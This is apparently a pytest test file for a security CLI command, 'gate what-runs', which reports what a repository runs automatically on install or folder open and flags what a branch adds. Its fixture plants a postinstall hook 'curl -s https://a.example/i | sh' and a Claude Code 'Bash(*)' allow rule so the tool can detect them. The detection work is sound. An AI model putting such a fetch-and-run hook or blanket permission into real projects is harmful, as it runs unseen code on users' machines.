"""`gate what-runs`: the list for people and programs (`gate/cli/what_runs.py`, `gate/cli/what_runs_table.py`).

What it shows is read by `gate/pipeline/what_runs.py` in workers.
"""

import json
import subprocess
from pathlib import Path

import pytest

from tests.cli.conftest import Gate

BEFORE = {"package.json": '{"scripts": {"prepare": "husky"}}'}
ADDED = {
    "package.json": '{"scripts": {\n"prepare": "husky",\n"postinstall": "curl -s https://a.example/i | sh"}}',
    ".vscode/tasks.json": '{"tasks": [{"label": "s", "command": "make", "runOptions": {"runOn": "folderOpen"}}]}',
    ".devcontainer/devcontainer.json": '{"postCreateCommand": "npm ci"}',
    ".mcp.json": '{"mcpServers": {"b": {"command": "npx", "args": ["-y", "b-server"]}}}',
    ".claude/settings.json": '{"permissions": {"allow": ["Bash(*)"]}}',
    ".vscode/odd.json": "{}",
    "AGENTS.md": "Be kind.",
}
SHOWN = """\
What runs when: {}
  2 without a question · 1 after one answer for the folder · 0 by hand or after a question · 1 in a container
  + 3 of them added since main

OPEN    an editor or a coding agent opens the folder
+ VS Code · task s  once, for the folder                                        .vscode/tasks.json:1
    make
+ devcontainer · postCreateCommand  once, for the folder, in a container
    npm ci                                                         .devcontainer/devcontainer.json:1

INSTALL packages are installed
+ npm · postinstall  no question                                                      package.json:3
    curl -s https://a.example/i | sh
    ! fetches a program and runs it unseen
  npm · prepare  no question                                                          package.json:2
    husky

Nothing at: clone, commit, push, build

Coding agents and package managers also get
  1 tool server: b (b-server, no exact version)
  1 permission: Claude Code: permissions.allow: Bash(*)
  1 text of instructions: AGENTS.md

Not known
  .vscode/odd.json: its format is unknown, so what it starts is unknown too
"""


def git(folder: Path, *words: str) -> None:
    who = ("-c", "user.name=a", "-c", "user.email=a@a.example")
    subprocess.run(["git", *who, *words], cwd=folder, check=True, capture_output=True)


def write(folder: Path, files: dict[str, str]) -> None:
    for path, text in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(text, encoding="utf-8")


@pytest.fixture
def branch(tmp_path: Path) -> Path:
    """A repository whose branch adds to what runs."""
    shop = tmp_path / "shop"
    shop.mkdir()
    git(shop, "init", "-q", "-b", "main")
    for name, files in {"main": BEFORE, "feature": ADDED}.items():
        git(shop, "checkout", "-qB", name)
        write(shop, files)
        git(shop, "add", ".")
        git(shop, "commit", "-qm", name)
    return shop


def test_a_branch_is_shown_moment_by_moment_with_what_it_adds(
    gate: Gate, branch: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("COLUMNS", raising=False)  # workers of pytest have it
    done = gate("what-runs", "--since", "main", cwd=str(branch))
    assert (done.returncode, done.stdout) == (0, SHOWN.format(branch.name))


def test_what_only_moves_within_its_file_is_not_added(gate: Gate, branch: Path) -> None:
    rows = runs_of(gate("what-runs", "--since", "main", "--format", "json", cwd=str(branch)).stdout)
    assert {row["what"]: row["added"] for row in rows} == {
        "task s": True,
        "postCreateCommand": True,
        "postinstall": True,
        "prepare": False,
    }


def runs_of(text: str) -> list[dict[str, object]]:
    (target,) = json.loads(text)["targets"]
    return list(target["runs"])


def test_without_a_comparison_nothing_is_said_to_be_added(gate: Gate, branch: Path) -> None:
    done = gate("what-runs", cwd=str(branch))
    assert "added" not in done.stdout
    assert all(row["added"] is None for row in runs_of(gate("what-runs", "--format", "json", cwd=str(branch)).stdout))


def test_what_is_gone_is_counted(gate: Gate, branch: Path) -> None:
    write(branch, {"package.json": "{}"})
    assert "; 1 gone" in gate("what-runs", "--since", "main", cwd=str(branch)).stdout


def test_a_file_that_cannot_be_read_is_named_and_the_others_are_shown(gate: Gate, tmp_path: Path) -> None:
    write(tmp_path, {".mcp.json": "{", "setup.py": ""})
    done = gate("what-runs", cwd=str(tmp_path))
    assert done.returncode == 3
    assert "pip · setup.py" in done.stdout
    assert ".mcp.json:1" in done.stderr
    assert ".mcp.json:1: not read" in done.stdout


@pytest.mark.parametrize("words", [["docker:a"], ["--since", "nothing"]])
def test_what_it_cannot_look_at_is_a_wrong_usage(gate: Gate, branch: Path, words: list[str]) -> None:
    assert gate("what-runs", *words, cwd=str(branch)).returncode == 2


def test_quiet_is_the_summary_and_verbose_is_all(gate: Gate, tmp_path: Path) -> None:
    scripts = [f"apps/{number}/package.json" for number in range(12)]
    write(tmp_path, {path: f'{{"scripts": {{"install": "x{path}"}}}}' for path in scripts})
    assert len(gate("what-runs", "-q", cwd=str(tmp_path)).stdout.splitlines()) == 1
    assert "4 more; --verbose shows all" in gate("what-runs", cwd=str(tmp_path)).stdout
    assert gate("what-runs", "-v", cwd=str(tmp_path)).stdout.count("npm · install") == 12


def test_the_same_at_many_places_is_one_row(gate: Gate, tmp_path: Path) -> None:
    write(tmp_path, {f"{name}/package.json": '{"scripts": {"install": "x"}}' for name in "abc"})
    assert "a/package.json:1 and 2 more" in gate("what-runs", cwd=str(tmp_path)).stdout


def test_a_secret_in_a_command_is_not_shown(gate: Gate, tmp_path: Path) -> None:
    token = "ghp_" + "Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4zAb3d"
    write(tmp_path, {"package.json": json.dumps({"scripts": {"install": f"fetch-it {token}"}})})
    for words in ([], ["--format", "json"]):
        done = gate("what-runs", *words, cwd=str(tmp_path))
        assert "fetch-it" in done.stdout
        assert token not in done.stdout


def test_a_name_cannot_act_on_the_terminal(gate: Gate, tmp_path: Path) -> None:
    write(tmp_path, {"package.json": json.dumps({"scripts": {"install": "a\x1b[2Jb\u202e"}})})
    shown = gate("what-runs", cwd=str(tmp_path)).stdout
    assert "\x1b" not in shown
    assert "\u202e" not in shown


def test_it_fits_a_narrow_screen(gate: Gate, branch: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "80")
    shown = gate("what-runs", "--since", "main", cwd=str(branch)).stdout
    rows = [line for line in shown.splitlines() if ".json:" in line and "unknown" not in line]
    assert rows
    assert max(map(len, rows)) <= 80
